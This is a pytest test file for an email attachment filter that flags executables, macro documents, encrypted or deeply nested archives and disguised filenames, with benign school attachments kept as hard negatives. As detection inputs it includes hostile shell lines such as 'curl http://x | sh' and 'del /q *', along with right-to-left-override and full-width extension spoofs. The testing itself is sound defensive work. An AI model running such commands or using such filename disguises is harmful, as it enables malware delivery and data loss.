"""The attachment policy filter: programs, disguises, macros and locked archives, with hard negatives."""
from __future__ import annotations

import pytest

from filters.attachments import AttachmentFilter, Options
from filters.base import Category, FilterContext, Severity
from filters.policy import Policy
from tests.factories import make_message, make_settings, make_view
from tests.filters.test_extract import (JPEG, MZ, PNG, make_docx, make_encrypted_pdf, make_encrypted_zip,
                                        make_macro_docx, make_ole, make_pdf, make_rar4,
                                        make_seven_zip_encrypted_header, make_xlsx, make_zip)

OCTET = "application/octet-stream"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60


def run_filter(attachments: list[tuple[str, str, bytes]], options: Options | None = None):
    settings = make_settings()
    flt = AttachmentFilter(options or settings.filter_options["attachments"],
                           FilterContext(settings=settings, directory=None))
    view = make_view(make_message("Please see attached.", attachments=attachments))
    return view, flt


async def codes_for(attachments: list[tuple[str, str, bytes]], options: Options | None = None) -> set[str]:
    view, flt = run_filter(attachments, options)
    return {f.code for f in await flt.check(view)}


@pytest.mark.parametrize("filename, mime, data, expected", [
    # programs by name and by bytes
    ("setup.exe", OCTET, MZ, {"ATTACHMENT_EXECUTABLE"}),
    ("tool.dll", OCTET, MZ, {"ATTACHMENT_EXECUTABLE"}),
    ("update.pdf", "application/pdf", MZ, {"ATTACHMENT_EXECUTABLE"}),
    ("photo", OCTET, ELF, {"ATTACHMENT_EXECUTABLE"}),
    ("clean.sh", "text/plain", b"#!/bin/sh\necho hi\n", {"ATTACHMENT_EXECUTABLE"}),
    ("notes.txt", "text/plain", b"#!/bin/bash\ncurl http://x | sh\n", {"ATTACHMENT_EXECUTABLE"}),
    ("run.bat", "text/plain", b"@echo off\r\ndel /q *\r\n", {"ATTACHMENT_EXECUTABLE"}),
    ("payload.ps1", "text/plain", b"Invoke-WebRequest http://x", {"ATTACHMENT_EXECUTABLE"}),
    ("link.lnk", OCTET, b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 70, {"ATTACHMENT_EXECUTABLE"}),
    ("game.jar", OCTET, make_zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}), {"ATTACHMENT_EXECUTABLE"}),
    ("SETUP.EXE", OCTET, MZ, {"ATTACHMENT_EXECUTABLE"}),
    # double extensions and Unicode disguises
    ("invoice.pdf.exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("homework.docx.scr", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("homework.pdf .exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("cv.pdf              .exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("photo.jpg.js", "text/plain", b"var x = 1;", {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("homework\u202efdp.exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),  # shows as "homeworkexe.pdf"
    ("report\u202excod.scr", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("invoice.pdf\u200b.exe", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),
    ("invoice.pdf.exe. . ", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),  # Windows drops trailing dots/spaces
    ("invoice.pdf.\uff45\uff58\uff45", OCTET, MZ, {"ATTACHMENT_DOUBLE_EXTENSION"}),  # full-width "exe"
    # macros
    ("invoice.docm", OCTET, make_macro_docx(), {"ATTACHMENT_MACRO"}),
    ("invoice.docx", OCTET, make_macro_docx(), {"ATTACHMENT_MACRO"}),  # renamed: bytes still say macros
    ("budget.xlsm", OCTET, make_xlsx([["a"]]), {"ATTACHMENT_MACRO"}),
    ("old.doc", "application/msword",
     make_ole({"WordDocument": b"\xec\xa5" + b"\0" * 30, "Macros/VBA/dir": b"\x01"}), {"ATTACHMENT_MACRO"}),
    # locked archives and documents
    ("photos.zip", "application/zip", make_encrypted_zip({"a.jpg": JPEG}), {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("data.7z", OCTET, make_seven_zip_encrypted_header(), {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("data.rar", OCTET, make_rar4(encrypted=True), {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("report.pdf", "application/pdf", make_encrypted_pdf(["x"]), {"ATTACHMENT_ENCRYPTED_DOCUMENT"}),
    ("marks.xlsx", OCTET, make_ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\0" * 16}),
     {"ATTACHMENT_ENCRYPTED_DOCUMENT"}),
    ("locked.zip", "application/zip", make_encrypted_zip({"setup.exe": MZ}),
     {"ATTACHMENT_ENCRYPTED_ARCHIVE", "ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    # archives containing any of those
    ("photos.zip", "application/zip", make_zip({"a.jpg": JPEG, "setup/run.exe": MZ}),
     {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("docs.zip", "application/zip", make_zip({"cv.pdf.exe": MZ}), {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("docs.zip", "application/zip", make_zip({"readme.txt": MZ}), {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("nested.zip", "application/zip", make_zip({"inner.zip": make_zip({"x.scr": MZ})}),
     {"ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"}),
    ("docs.zip", "application/zip", make_zip({"form.docm": make_macro_docx()}),
     {"ATTACHMENT_ARCHIVE_CONTAINS_MACRO"}),
    ("outer.zip", "application/zip", make_zip({"inner.zip": make_encrypted_zip({"a.txt": b"x"})}),
     {"ATTACHMENT_ENCRYPTED_ARCHIVE"}),
    ("deep.zip", "application/zip",
     make_zip({"1.zip": make_zip({"2.zip": make_zip({"3.zip": make_zip({"run.exe": MZ})})})}),
     {"ATTACHMENT_ARCHIVE_TOO_DEEP"}),
    # hard negatives: what schools send every day
    ("letter.pdf", "application/pdf", make_pdf(["Dear parents, the trip is on Friday."]), set()),
    ("report.docx", OCTET, make_docx(["Year 9 report"]), set()),
    ("marks.xlsx", OCTET, make_xlsx([["Name", "Mark"], ["Amy", 7]]), set()),
    ("photo.jpg", "image/jpeg", JPEG, set()),
    ("diagram.png", "image/png", PNG, set()),
    ("papers.zip", "application/zip", make_zip({"a.pdf": make_pdf(["a"]), "b.pdf": make_pdf(["b"])}), set()),
    ("notes.txt", "text/plain", b"Bring a packed lunch.", set()),
    ("holiday.photos.jpg", "image/jpeg", JPEG, set()),
    ("results.2024.xlsx", OCTET, make_xlsx([["a"]]), set()),
    ("backup.tar.gz", "application/gzip", b"\x1f\x8b\x08\x00" + b"\0" * 20, set()),
    ("owner-only.pdf", "application/pdf", make_encrypted_pdf(["open"], user_password=""), set()),
    ("\u05de\u05db\u05ea\u05d1.pdf", "application/pdf", make_pdf(["shalom"]), set()),  # Hebrew name, no tricks
    ("execute_plan.pdf", "application/pdf", make_pdf(["plan"]), set()),
])
async def test_attachment_findings(filename: str, mime: str, data: bytes, expected: set[str]) -> None:
    assert await codes_for([(filename, mime, data)]) == expected


async def test_invoice_pdf_exe_is_a_high_attachment_finding_with_the_name() -> None:
    view, flt = run_filter([("invoice.pdf.exe", OCTET, b"MZ")])
    [finding] = await flt.check(view)
    assert finding.code == "ATTACHMENT_DOUBLE_EXTENSION"
    assert finding.category == Category.ATTACHMENT
    assert finding.severity == Severity.HIGH
    assert finding.evidence == ("invoice.pdf.exe",)
    assert "invoice.pdf.exe" in finding.reason


async def test_archive_evidence_names_the_member_path() -> None:
    view, flt = run_filter([("photos.zip", "application/zip",
                             make_zip({"a.jpg": JPEG, "inner.zip": make_zip({"setup/run.exe": MZ})}))])
    [finding] = await flt.check(view)
    assert finding.code == "ATTACHMENT_ARCHIVE_CONTAINS_EXECUTABLE"
    assert finding.evidence == ("photos.zip > inner.zip > setup/run.exe",)


@pytest.mark.parametrize("code, severity", [
    ("ATTACHMENT_EXECUTABLE", Severity.HIGH),
    ("ATTACHMENT_MACRO", Severity.MEDIUM),
    ("ATTACHMENT_ENCRYPTED_ARCHIVE", Severity.MEDIUM),
])
async def test_severities_and_the_policy_holds(code: str, severity: Severity) -> None:
    data = {"ATTACHMENT_EXECUTABLE": ("setup.exe", MZ), "ATTACHMENT_MACRO": ("a.docm", make_macro_docx()),
            "ATTACHMENT_ENCRYPTED_ARCHIVE": ("a.zip", make_encrypted_zip({"a.txt": b"x"}))}[code]
    view, flt = run_filter([(data[0], OCTET, data[1])])
    findings = await flt.check(view)
    assert [(f.code, f.severity) for f in findings] == [(code, severity)]
    verdict = Policy(make_settings()).decide(view, findings)
    assert verdict.action.label == "hold"


async def test_attachment_inside_a_forwarded_message_is_checked() -> None:
    inner = make_message("see attached", attachments=[("setup.exe", OCTET, MZ)])
    outer = make_message("FYI", attachments=[("fwd.eml", "message/rfc822", inner)])
    view, flt = run_filter([])
    view = make_view(outer)
    [attachment] = view.attachments
    assert attachment.depth == 1
    assert [f.code for f in await flt.check(view)] == ["ATTACHMENT_EXECUTABLE"]


@pytest.mark.parametrize("options, attachment, expected", [
    (Options(allowed_types=["text/x-script"]), ("hello.py", "text/plain", b"#!/usr/bin/env python3\n"), set()),
    (Options(extra_blocked_extensions=["py"]), ("hello.py", "text/plain", b"print(1)\n"),
     {"ATTACHMENT_EXECUTABLE"}),
    (Options(blocked_extensions=["exe"]), ("run.bat", "text/plain", b"@echo off"), set()),
    (Options(flag_encrypted_documents=False), ("r.pdf", "application/pdf", make_encrypted_pdf(["x"])), set()),
    (Options(archive_depth=1), ("a.zip", "application/zip", make_zip({"b.zip": make_zip({"c.txt": b"x"})})),
     {"ATTACHMENT_ARCHIVE_TOO_DEEP"}),
])
async def test_options(options: Options, attachment: tuple[str, str, bytes], expected: set[str]) -> None:
    assert await codes_for([attachment], options) == expected
